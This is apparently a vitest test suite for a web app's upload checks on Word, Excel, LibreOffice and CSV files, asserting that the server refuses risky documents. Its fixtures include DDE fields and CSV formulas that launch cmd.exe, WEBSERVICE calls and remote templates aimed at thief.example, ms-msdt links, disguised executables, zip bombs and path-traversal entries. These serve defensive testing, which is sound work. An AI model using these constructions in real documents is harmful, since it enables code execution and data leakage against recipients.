import zlib from 'node:zlib'
import ExcelJs from 'exceljs'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { partDefinitions } from '../../../server/records/model/parts.ts'
import { type TestApp, testApp } from '../../helpers/app.ts'
import {
  docxWith,
  odtWith,
  officeFile,
  officeTypes,
  readPart,
  relation,
  withChanged,
  withParts,
  withTyped,
  xlsxWith
} from '../../helpers/office-files.ts'
import { pdf, picture, signedIn, upload, uploadGuarantor } from '../../helpers/records.ts'
import { expectTidy, query } from '../../helpers/stored.ts'
import type { SignedIn } from '../../helpers/visitor.ts'

let server: TestApp
let ada: SignedIn

// As an author writes it to accept documents for the guarantor's form.
const rule = partDefinitions.find(({ name }) => name === 'guarantors')?.files[0]?.rule
const asWritten = [...(rule?.types ?? [])]
const take = (types: string[]) => rule?.types.splice(0, rule.types.length, ...types)
beforeAll(async () => {
  take([...asWritten, ...Object.values(officeTypes)])
  server = await testApp({ env: { RATE_LIMITS: 'off' } })
})
afterAll(() => {
  take(asWritten)
  return expectTidy(server)
})

beforeEach(async () => {
  ada = await signedIn(server)
})

const sentence = (words: string) => `The selected file ${words}, and choose that one.`
const macroWords = (ending: string) => sentence(`has macros. Save it as ${ending} without them`)
const embeddedWords = sentence('has another file, a program or something unknown in it. Take that out')
const reachingWords = sentence(
  'fetches something from elsewhere when it is opened, like a linked picture, a template or cells of another file. Break its links'
)
const all = '.docx, .xlsx, .odt or .ods'
const oldWords = sentence(
  `is an old file type or has a password, so we cannot check it. Save it as ${all} without a password`
)
const lockedWords = (ending: string) =>
  sentence(`has a password, so it cannot be checked. Save it as ${ending} without a password`)
const largeWords = sentence('is too large when it is unpacked. Make it shorter')
const damagedWords = (ending: string) =>
  sentence(`is damaged, or cannot be checked. Open it, save it as ${ending}`)

async function expectRefused(bytes: Buffer, msg: string, rule = 'harmless') {
  const answer = await uploadGuarantor(ada, 1, bytes)
  const problem = { msg, path: '/guarantors/0', form: 'steps/guarantors', rule }
  expect(answer).toMatchObject({ status: 415, body: { message: msg, data: [problem] } })
  expect(query(server, `SELECT 1 FROM files WHERE user_id = '${ada.id}'`)).toEqual([])
}

const field = (...pieces: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map(piece => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

async function madeByExcelJs(): Promise<Buffer> {
  const book = new ExcelJs.Workbook()
  const sheet = book.addWorksheet('Pay')
  sheet.addRow(['Month', 'Pay'])
  sheet.addRow(['May', { formula: 'SUM(B3:B9)' }])
  sheet.getCell('A4').value = { text: 'Our site', hyperlink: 'https://example.com' }
  return Buffer.from(await book.xlsx.writeBuffer())
}

describe('a document field that also accepts pictures', () => {
  it.each(['webp', 'avif', 'gif'] as const)(
    'accepts a %s if it accepts JPEG, and renames it to .jpg',
    async type => {
      take([...asWritten, 'image/jpeg'])
      const file = { name: 'guarantor', filename: `my form.${type}`, bytes: await picture({ type }) }
      const { body } = await upload(ada, '/user/guarantors', [['target', '1']], [file])
      take([...asWritten, ...Object.values(officeTypes)])
      expect(body.data.guarantors).toMatchObject([{ guarantor: { name: 'my form.jpg' } }])
    }
  )

  it('rejects a WebP if it accepts PNG but not JPEG', async () => {
    take([...asWritten, 'image/png'])
    const answer = await uploadGuarantor(ada, 1, await picture({ type: 'webp' }))
    take([...asWritten, ...Object.values(officeTypes)])
    expect(answer).toMatchObject({
      status: 415,
      body: { message: 'The selected file must be a PDF or PNG.' }
    })
  })
})

describe('the type check of an office document', () => {
  it.each<[string, keyof typeof officeTypes, () => Promise<Buffer>]>([
    ['a Word document', 'docx', () => officeFile('docx')],
    ['an Excel workbook', 'xlsx', () => officeFile('xlsx')],
    ['a LibreOffice text document', 'odt', () => officeFile('odt')],
    ['a LibreOffice spreadsheet', 'ods', () => officeFile('ods')],
    ['an Excel workbook written by ExcelJS', 'xlsx', madeByExcelJs],
    [
      'a Word document with links to a website, a bookmark and an email',
      'docx',
      () =>
        docxWith(
          field(' HYPERLINK "https://example.com" ') + field(' HYPERLINK \\l "top" ') + field(' PAGE '),
          {
            'word/_rels/document.xml.rels': relation('hyperlink', 'mailto:ada@example.com')
          }
        )
    ],
    [
      'a LibreOffice document with a link, an image and a chart',
      'odt',
      () =>
        odtWith('<text:a xlink:href="https://example.com"/><draw:image xlink:href="Pictures/a.png"/>', {
          'Pictures/a.png': Buffer.from('89504e470d0a1a0a', 'hex'),
          'Object 1/content.xml': '<office:document-content xmlns:office="urn:o"/>',
          'ObjectReplacements/Object 1': 'VCLMTF'
        })
    ],
    ['a Word document in UTF-16', 'docx', () => inUtf16(field(' PAGE '))]
  ])('accepts %s and serves it as a download of its type', async (_, kind, make) => {
    const bytes = await make()
    expect(await uploadGuarantor(ada, 1, bytes)).toMatchObject({ status: 200 })
    const { body } = await ada.get('/user')
    const { url } = body.data.guarantors[0].guarantor
    const { headers, rawPayload } = await server.app.inject(url)
    expect(rawPayload.equals(bytes)).toBe(true)
    expect(headers).toMatchObject({
      'content-type': officeTypes[kind],
      'content-disposition': `attachment; filename="guarantor-1.${kind}"`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox"
    })
  })

  it('rejects an EPUB and a Word template by their content', async () => {
    const words =
      'The selected file must be a PDF, document (.docx), spreadsheet (.xlsx), document (.odt) or spreadsheet (.ods).'
    const zip = await withParts(await officeFile('odt'), { mimetype: 'application/epub+zip' })
    await expectRefused(zip, words, 'fileType')
    const template = await withChanged(await officeFile('docx'), '[Content_Types].xml', text =>
      text.replace('document.main+xml', 'template.main+xml')
    )
    await expectRefused(template, words, 'fileType')
  })

  it('rejects a .docx for a field that accepts only PDFs', async () => {
    take(asWritten)
    await expectRefused(await officeFile('docx'), 'The selected file must be a PDF.', 'fileType')
    expect(await uploadGuarantor(ada, 1, await pdf())).toMatchObject({ status: 200 })
    take([...asWritten, ...Object.values(officeTypes)])
  })
})

async function inUtf16(body: string): Promise<Buffer> {
  const bytes = await docxWith(body)
  const text = (await readPart(bytes, 'word/document.xml')).replace('encoding="UTF-8"', 'encoding="UTF-16"')
  return withParts(bytes, { 'word/document.xml': Buffer.from(`\ufeff${text}`, 'utf16le') })
}

describe('the macro check of an office document', () => {
  const enabled = (type: string) => (text: string) =>
    text.replace(/application\/vnd\.openxmlformats-officedocument\.\w+\.\w+\.main\+xml/, type)

  it.each<[string, string, () => Promise<Buffer>]>([
    [
      'with the content type of a .docm',
      '.docx',
      async () =>
        withChanged(
          await officeFile('docx'),
          '[Content_Types].xml',
          enabled('application/vnd.ms-word.document.macroEnabled.main+xml')
        )
    ],
    [
      'with the content type of an .xlsm',
      '.xlsx',
      async () =>
        withChanged(
          await officeFile('xlsx'),
          '[Content_Types].xml',
          enabled('application/vnd.ms-excel.sheet.macroEnabled.main+xml')
        )
    ],
    [
      'in the vbaProject.bin of a .docx',
      '.docx',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/vbaProject.bin',
          'application/vnd.ms-office.vbaProject',
          'x'
        )
    ],
    [
      'disguised as an image',
      '.docx',
      async () =>
        withTyped(await officeFile('docx'), 'word/media/a.png', 'application/vnd.ms-office.vbaProject', 'x')
    ],
    [
      'named only by a relationship',
      '.docx',
      () => docxWith('', { 'word/_rels/document.xml.rels': relation('vbaProject', 'media/a.xml', false) })
    ],
    [
      'in an Excel 4.0 macro sheet',
      '.xlsx',
      async () =>
        withTyped(
          await officeFile('xlsx'),
          'xl/macrosheets/sheet1.xml',
          'application/vnd.ms-excel.macrosheet+xml',
          '<x/>'
        )
    ],
    ['in a LibreOffice Basic module', '.odt', () => odtWith('', { 'Basic/Standard/Module1.xml': '<x/>' })],
    ['in a Python script', '.odt', () => odtWith('', { 'Scripts/python/a.py': 'print(1)' })],
    [
      'started by an event listener',
      '.odt',
      () => odtWith('<script:event-listener script:language="ooo:script" xlink:href="x"/>')
    ],
    ['started by a link', '.odt', () => odtWith('<text:a xlink:href="vnd.sun.star.script:a.b"/>')]
  ])('rejects macros %s', async (_, ending, make) => {
    await expectRefused(await make(), macroWords(ending))
  })
})

describe('the check of an office document for embedded content', () => {
  const admin = 'application/vnd.openxmlformats-officedocument'

  it.each<[string, () => Promise<Buffer>]>([
    [
      'an OLE object',
      async () =>
        withTyped(await officeFile('docx'), 'word/embeddings/oleObject1.bin', `${admin}.oleObject`, 'x')
    ],
    [
      'an embedded Word document',
      async () => withTyped(await officeFile('docx'), 'word/a.docx', officeTypes.docx, 'PK')
    ],
    [
      'an ActiveX control',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/activeX/activeX1.xml',
          'application/vnd.ms-office.activeX+xml',
          '<x/>'
        )
    ],
    [
      'an embedded HTML page',
      async () => withTyped(await officeFile('docx'), 'word/chunk.htm', 'text/html', '<html/>')
    ],
    ['an .exe file that nothing refers to', () => docxWith('', { 'word/media/run.exe': 'MZ' })],
    [
      'an OLE file disguised as an image',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/media/a.png',
          'image/png',
          Buffer.from('d0cf11e0a1b11ae1', 'hex')
        )
    ],
    [
      'an XML part named like an image',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/media/a.png',
          `${admin}.wordprocessingml.styles+xml`,
          '<x/>'
        )
    ],
    [
      'an OLE object named only by a relationship',
      () => docxWith('', { 'word/_rels/document.xml.rels': relation('oleObject', 'media/a.xml', false) })
    ],
    ['an OLE object in a LibreOffice document', () => odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
    [
      'an OLE file outside the known parts of a LibreOffice document',
      () => odtWith('', { 'Object 1': Buffer.from('d0cf11e0a1b11ae1', 'hex') })
    ],
    ['a video in a LibreOffice document', () => odtWith('', { 'Media/film.mp4': 'x' })],
    [
      'a program disguised as an image in a LibreOffice document',
      () => odtWith('', { 'Pictures/a.png': Buffer.from('4d5a90000300', 'hex') })
    ]
  ])('rejects %s', async (_, make) => {
    await expectRefused(await make(), embeddedWords)
  })
})

describe('the check of an office document for external references', () => {
  const refers = (kind: string, target: string) => () =>
    docxWith('', { 'word/_rels/document.xml.rels': relation(kind, target) })

  it.each<[string, () => Promise<Buffer>]>([
    ['a remote template', refers('attachedTemplate', 'https://thief.example/a.dotm')],
    ['a linked OLE object on a network share', refers('oleObject', 'file:///\\\\thief\\share\\a.docx')],
    ['a remote image', refers('image', 'https://thief.example/a.png')],
    ['a link that starts a program', refers('hyperlink', 'ms-msdt:/id')],
    ['a link to a network share', refers('hyperlink', '\\\\thief\\share')],
    [
      'a file: link with spaces and a line break in its scheme',
      refers('hyperlink', ' fi&#10;le:///c:/a.exe')
    ],
    [
      'an external image that is not marked as external',
      () =>
        docxWith('', {
          'word/_rels/document.xml.rels': relation('image', 'https://thief.example/a.png', false)
        })
    ],
    [
      'relationships with the content type of an image',
      async () =>
        withTyped(
          await officeFile('docx'),
          'word/_rels/document.xml.rels',
          'image/png',
          relation('image', 'https://thief.example/a.png')
        )
    ],
    ['a DDEAUTO field', () => docxWith(field(' DDEAUTO c:\\\\cmd.exe "/k calc" '))],
    ['a DDEAUTO field split into several runs', () => docxWith(field(' DD', 'EAU', 'TO c:\\\\cmd.exe '))],
    [
      'a DDE field completed by a nested field',
      () =>
        docxWith(
          '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 </w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>'
        )
    ],
    [
      'a DDE field without an end',
      () => docxWith('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>')
    ],
    [
      'a simple INCLUDEPICTURE field',
      () => docxWith('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>')
    ],
    ['a DDE field in UTF-16', () => inUtf16(field(' DDE a '))],
    ['a DDE field in CDATA', () => docxWith(field('<![CDATA[ DDE a ]]>'))],
    ['a VML drawing with a remote image', () => docxWith('<v:imagedata src="https://thief.example/a.png"/>')],
    ['a mail merge', () => docxWith('<w:mailMerge/>')],
    ['a WEBSERVICE formula', () => xlsxWith('_xlfn.WEBSERVICE("https://thief.example")')],
    ['a DDE formula that starts a program', () => xlsxWith("cmd|'/k calc'!A0")],
    [
      'a formula with WEBSERVICE after a quoted sheet name',
      () => xlsxWith('\'a"b\'!A1&amp;WEBSERVICE("https://thief.example")')
    ],
    [
      'an external workbook link',
      async () =>
        withTyped(
          await officeFile('xlsx'),
          'xl/externalLinks/externalLink1.xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
          '<x/>'
        )
    ],
    [
      'a database connection',
      async () =>
        withTyped(
          await officeFile('xlsx'),
          'xl/connections.xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
          '<x/>'
        )
    ],
    [
      'a remote image in LibreOffice',
      () => odtWith('<draw:image xlink:href="https://thief.example/a.png"/>')
    ],
    [
      'an image on a network share in LibreOffice',
      () => odtWith('<draw:image xlink:href="//thief/share/a.png"/>')
    ],
    [
      'a linked file next to the document in LibreOffice',
      () => odtWith('<draw:image xlink:href="../a.png"/>')
    ],
    [
      'a section of another document in LibreOffice',
      () => odtWith('<text:section-source xlink:href="other.odt"/>')
    ],
    ['a DDE source in LibreOffice', () => odtWith('<office:dde-source office:dde-application="soffice"/>')],
    ['a link to a local file in LibreOffice', () => odtWith('<text:a xlink:href="file:///c:/a.exe"/>')],
    ['a DDE formula in LibreOffice', () => odtWith('<text:p text:formula="of:=DDE(&quot;a&quot;)"/>')]
  ])('rejects %s', async (_, make) => {
    await expectRefused(await make(), reachingWords)
  })
})

describe('the check of an unreadable office document', () => {
  const ole = (words = '') =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from(words, 'utf16le')])

  it('rejects .doc and password-protected files and says how to save them', async () => {
    await expectRefused(ole(), oldWords)
    await expectRefused(ole('EncryptedPackage'), oldWords)
    const manifest = '<m xmlns:manifest="urn:m"><manifest:encryption-data/></m>'
    await expectRefused(await odtWith('', { 'META-INF/manifest.xml': manifest }), lockedWords('.odt'))
    const encrypted = await docxWith('')
    for (const at of positionsOf(encrypted, 'PK\u0001\u0002')) encrypted.writeUInt16LE(1, at + 8)
    await expectRefused(encrypted, lockedWords(all))
  })

  it.each<[string, string, () => Promise<Buffer>]>([
    ['that is truncated', all, async () => (await officeFile('docx')).subarray(0, -30)],
    ['with an entry name that contains ../', all, async () => renamed(await officeFile('docx'), '../xxxx')],
    ['with an absolute path as an entry name', all, async () => renamed(await officeFile('docx'), '/xxxxxx')],
    [
      'with two entry names that differ only in case',
      all,
      () => docxWith('', { 'WORD/document.xml': '<x/>' })
    ],
    [
      'with an archive comment that could contain another directory',
      all,
      async () => withParts(await officeFile('docx'), {}, { comment: 'PK' })
    ],
    [
      'with an entry missing from the central directory',
      all,
      async () => withHidden(await officeFile('docx'))
    ],
    [
      'with a different entry name in a local header',
      all,
      async () => renamed(await officeFile('docx'), 'x.xml', true)
    ],
    [
      'that is both a Word and a LibreOffice document',
      all,
      async () => withParts(await officeFile('docx'), { mimetype: officeTypes.odt })
    ],
    [
      'with an XML entity declaration',
      '.docx',
      () => docxWith('', { 'word/a.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' })
    ],
    ['with malformed XML', '.docx', () => docxWith('', { 'word/a.xml': '<x>' })],
    [
      'with invalid UTF-8',
      '.docx',
      () => docxWith('', { 'word/a.xml': Buffer.from('<x>\u00ff\u00fe</x>', 'latin1') })
    ],
    [
      'with XML in UTF-7',
      '.docx',
      () => docxWith('', { 'word/a.xml': '<?xml version="1.0" encoding="utf-7"?><x/>' })
    ],
    ['with 5,000 nested XML elements', '.docx', () => docxWith('', { 'word/a.xml': '<a>'.repeat(5000) })],
    [
      'with 5,000 attributes of one XML element',
      '.docx',
      () =>
        docxWith('', {
          'word/a.xml': `<a ${Array.from({ length: 5000 }, (_, at) => `a${at}=""`).join(' ')}/>`
        })
    ],
    [
      'with a malformed manifest',
      '.odt',
      async () => withChanged(await officeFile('odt'), 'META-INF/manifest.xml', () => '<x')
    ]
  ])('rejects as damaged a file %s', async (_, ending, make) => {
    await expectRefused(await make(), damagedWords(ending))
  })

  it('rejects zip bombs and an archive of 2,100 parts within 3 seconds each', async () => {
    const blanks = Buffer.alloc(40 << 20, ' ')
    const many = Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`word/${at}.xml`, '<x/>']))
    const bombs = [
      await docxWith('', { 'word/a.xml': Buffer.concat([Buffer.from('<x>'), blanks, Buffer.from('</x>')]) }),
      await docxWith('', { 'word/a.xml': `<x>${' '.repeat(4 << 20)}</x>` }),
      await docxWith('', many)
    ]
    for (const bomb of bombs) {
      const began = performance.now()
      await expectRefused(bomb, largeWords)
      expect(performance.now() - began).toBeLessThan(3000)
    }
  })

  it('rejects an archive that declares a smaller unpacked size than it has', async () => {
    const bytes = await docxWith('', { 'word/a.xml': `<x>${'ab'.repeat(9000)}</x>` })
    const at = positionsOf(bytes, 'PK\u0001\u0002').find(
      one => bytes.toString('latin1', one + 46, one + 56) === 'word/a.xml'
    )
    bytes.writeUInt32LE(10, (at ?? 0) + 24)
    await expectRefused(bytes, damagedWords('.docx'))
  })
})

describe('a field that accepts text and CSV files', () => {
  const withTexts = () => take([...asWritten, 'text/plain', 'text/csv'])
  const typeOfStored = () =>
    query<{ type: string }>(server, `SELECT type FROM files WHERE user_id = '${ada.id}'`).map(
      ({ type }) => type
    )

  it('stores a file as CSV if its rows have equally many cells, and as plain text otherwise', async () => {
    withTexts()
    expect(await uploadGuarantor(ada, 1, Buffer.from('name;pay\r\nAdé;-12\r\n'))).toMatchObject({
      status: 200
    })
    expect(await uploadGuarantor(ada, 2, Buffer.from('\ufeffI stand surety.\n'))).toMatchObject({
      status: 200
    })
    expect(typeOfStored().sort()).toEqual(['text/csv', 'text/plain'])
  })

  it('rejects binary data, invalid UTF-8 and formula cells that call a program or the web', async () => {
    withTexts()
    const words = 'The selected file must be a PDF, text (.txt) or table (.csv).'
    await expectRefused(Buffer.from('a,b\n\0,c'), words, 'fileType')
    await expectRefused(Buffer.from('Ad\u00e9', 'latin1'), words, 'fileType')
    const asking =
      'A cell of the selected file asks another program or the web for its value. Delete that cell, and choose the file again.'
    await expectRefused(Buffer.from("a,b\n1,=cmd|'/k calc'!A0\n"), asking)
    await expectRefused(Buffer.from('a,b\n1,"=WEBSERVICE(""https://thief.example"")"\n'), asking)
    take([...asWritten, ...Object.values(officeTypes)])
  })
})

function positionsOf(bytes: Buffer, mark: string): number[] {
  const found: number[] = []
  for (let at = bytes.indexOf(mark, 0, 'latin1'); at >= 0; at = bytes.indexOf(mark, at + 1, 'latin1'))
    found.push(at)
  return found
}

/** Renames the last entry of an archive: in the central directory and the local header, or only in the latter. */
function renamed(bytes: Buffer, start: string, isLocal = false): Buffer {
  const mark = isLocal ? 'PK\u0003\u0004' : 'PK\u0001\u0002'
  const at = positionsOf(bytes, mark).at(-1) ?? 0
  bytes.write(start, at + (isLocal ? 30 : 46), 'latin1')
  if (!isLocal) bytes.write(start, (positionsOf(bytes, 'PK\u0003\u0004').at(-1) ?? 0) + 30, 'latin1')
  return bytes
}

/** Adds an entry that the archive's central directory does not list. */
function withHidden(bytes: Buffer): Buffer {
  const content = zlib.deflateRawSync('<x/>')
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(content.length, 18)
  head.writeUInt32LE(4, 22)
  head.writeUInt16LE(5, 26)
  const table = positionsOf(bytes, 'PK\u0001\u0002')[0] ?? 0
  const hidden = Buffer.concat([head, Buffer.from('a.xml'), content])
  const whole = Buffer.concat([bytes.subarray(0, table), hidden, bytes.subarray(table)])
  const end = positionsOf(whole, 'PK\u0005\u0006').at(-1) ?? 0
  whole.writeUInt32LE(table + hidden.length, end + 16)
  return whole
}
